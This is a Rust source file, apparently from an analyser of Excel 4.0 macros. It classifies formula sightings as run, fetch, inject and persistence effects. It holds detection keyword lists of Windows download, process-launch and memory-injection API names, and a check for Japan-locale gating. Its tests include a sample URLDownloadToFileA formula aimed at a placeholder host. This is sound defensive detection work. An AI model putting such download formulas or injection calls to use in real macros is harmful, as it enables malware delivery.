//! From what formulas do to effects that need no knowledge of Excel.

use std::collections::BTreeSet;

use super::program::Program;
use super::sight::{Action, Sighting, writes_call};
use crate::base::{Basis, Effect, EffectKind, Location, PartId, Place};

/// The effects of a program: what it does when it runs, and what its text shows besides.
///
/// A sighting is left out when running its cell, or what that cell wrote, showed the same kind of
/// thing more exactly.
pub fn effects(part: PartId, program: &Program) -> impl Iterator<Item = Effect> {
    let run = &program.evaluation;
    let mut shown: BTreeSet<((u32, u32, u16), EffectKind)> = run.written_by.clone();
    for effect in &run.effects {
        if let Some(Place::Cell { sheet, row, column }) = effect.location.place {
            shown.insert(((sheet, row, u16::try_from(column).unwrap_or(u16::MAX)), effect.kind));
        }
    }
    // A kind that only running tells from another: a check that is a read, a write that persists.
    let harmless =
        |kind| matches!(kind, EffectKind::Check | EffectKind::Close | EffectKind::Hide | EffectKind::Alert);
    let seen = program.sightings.iter().filter_map(move |seen| {
        let effect = effect(part, seen)?;
        let known = shown.contains(&(seen.cell, effect.kind))
            || (run.executed.contains(&seen.cell) && harmless(effect.kind));
        (!known).then_some(effect)
    });
    run.effects.iter().cloned().chain(seen)
}

/// The effect of a sighting, if it has one on the world outside the workbook.
pub fn effect(part: PartId, sighting: &Sighting) -> Option<Effect> {
    let text = sighting.text.as_str();
    let kind = match sighting.action {
        Action::Run => EffectKind::Run,
        Action::Call => call_kind(text),
        Action::Register => EffectKind::Register,
        Action::WriteCell => written_kind(text)?,
        Action::File => match sighting.function {
            "FWRITE" | "FWRITELN" => EffectKind::Write,
            // FOPEN with access 3 makes the file anew.
            "FOPEN" if text.ends_with(", 3") => EffectKind::Write,
            _ => EffectKind::Check,
        },
        Action::DeleteFile => EffectKind::Delete,
        Action::Check => EffectKind::Check,
        Action::Hook => EffectKind::Persist,
        Action::Hide => EffectKind::Hide,
        Action::Alert => EffectKind::Alert,
        Action::Close => EffectKind::Close,
        Action::Replicate => EffectKind::Persist,
        Action::Dde => EffectKind::Dde,
        Action::CharCodes | Action::Chain => return None,
    };
    let (sheet, row, column) = sighting.cell;
    let text = match sighting.action {
        Action::WriteCell => text.to_owned(),
        _ => format!("{}({text})", sighting.function),
    };
    let location = Location::cell(part, sheet, row, column.into());
    Some(Effect { kind, basis: Basis::SeenInText, text, condition: None, location, detail: None })
}

/// What a call into a DLL is for, by the names in its arguments.
fn call_kind(text: &str) -> EffectKind {
    let lower = text.to_ascii_lowercase();
    let names = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    if names(&["urldownloadtofile", "internetopenurl", "winhttp", "internetreadfile"]) {
        EffectKind::Fetch
    } else if names(&["shellexecute", "winexec", "createprocess"]) {
        EffectKind::Run
    } else if names(&["virtualalloc", "writeprocessmemory", "createthread", "rtlcopymemory", "queueuserapc"])
    {
        EffectKind::Inject
    } else {
        EffectKind::Call
    }
}

/// What a formula that a macro writes would do when it is run next.
fn written_kind(text: &str) -> Option<EffectKind> {
    if writes_call(text, "EXEC") {
        Some(EffectKind::Run)
    } else if writes_call(text, "CALL") {
        Some(call_kind(text))
    } else if writes_call(text, "REGISTER") {
        Some(EffectKind::Register)
    } else {
        None
    }
}

/// Whether a condition says that the country is Japan, or the currency sign the yen.
pub fn is_japan(condition: &str) -> bool {
    const TRUE: [&str; 4] =
        ["(37)=81 is TRUE", "(37)=\"\u{A5}\" is TRUE", "(37)=\"\\\" is TRUE", "(37)=92 is TRUE"];
    const FALSE: [&str; 4] =
        ["(37)<>81 is FALSE", "(37)<>\"\u{A5}\" is FALSE", "(37)<>\"\\\" is FALSE", "(37)<>92 is FALSE"];
    TRUE.iter().chain(&FALSE).any(|words| condition.contains(words))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn country_81_and_the_yen_sign_are_japan() {
        assert!(is_japan("GET.WORKSPACE(37)=81 is TRUE"));
        assert!(is_japan("GET.WORKSPACE(37)<>\"\u{A5}\" is FALSE and GET.WORKSPACE(19) is TRUE"));
        assert!(!is_japan("GET.WORKSPACE(37)=81 is FALSE"));
        assert!(!is_japan("GET.WORKSPACE(37)=49 is TRUE"));
    }

    #[test]
    fn written_formulas_are_told_by_what_they_call() {
        let kinds = [
            r#"=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"http://one.invalid/"#,
            r#"= exec("calc")"#,
            "=RETURN()",
            "plain text",
        ]
        .map(written_kind);
        assert_eq!(kinds, [Some(EffectKind::Fetch), Some(EffectKind::Run), None, None]);
    }
}
